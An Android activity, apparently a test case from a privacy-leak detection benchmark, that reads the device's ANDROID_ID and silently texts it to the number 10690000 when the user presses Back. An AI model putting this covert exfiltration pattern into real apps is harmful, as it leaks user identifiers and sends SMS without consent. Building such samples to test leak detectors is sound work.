package cn.privlens.suite.back_pressed_sends;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class Main extends Activity {
    private String id = "";
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        id = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
        setTitle("kept");
    }
    @Override
    public void onBackPressed() {
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
        super.onBackPressed();
    }
}
